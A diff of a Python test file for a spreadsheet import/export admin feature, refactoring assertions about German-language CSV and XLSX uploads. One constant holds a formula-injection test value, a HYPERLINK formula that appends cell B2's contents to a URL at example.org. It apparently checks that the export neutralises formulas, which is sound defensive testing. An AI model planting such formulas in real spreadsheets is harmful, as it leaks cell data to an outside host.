@@ -10,7 +10,7 @@ from funding.models import FundingProgramme
 from tests.admin_forms import admin_url
 from werkzeugkoffer.backoffice.formats import SafeXLSX, SpreadsheetCSV
 
-from .test_import_export import CSV, XLSX, export_rows, preview
+from .test_import_export import CSV, XLSX, changed_rows, export_rows, preview, problems
 
 FORMULA = '=HYPERLINK("https://example.org/?"&B2,"Details")'
 
@@ -46,8 +46,7 @@ def test_csv_files_as_excel_saves_them_are_read(reviewer, make_programme, encodi
     response = preview(reviewer, upload)
 
     assert response.status_code == 200
-    result = response.context["result"]
-    assert [r.import_type for r in result.rows] == ["new"], [e.error for r in result.rows for e in r.errors]
+    assert changed_rows(response) == [(1, "new")], problems(response)
     assert "Förderung für Straßen und Plätze" in response.content.decode()
 
 
@@ -121,7 +120,7 @@ def test_an_import_with_german_column_names_updates_the_entry(reviewer, make_pro
 
     response = preview(reviewer, SimpleUploadedFile("import.csv", content))
 
-    assert [r.import_type for r in response.context["result"].rows] == ["update"]
+    assert changed_rows(response) == [(1, "update")]
     assert "Neuer Titel aus Excel" in response.content.decode()
 
 
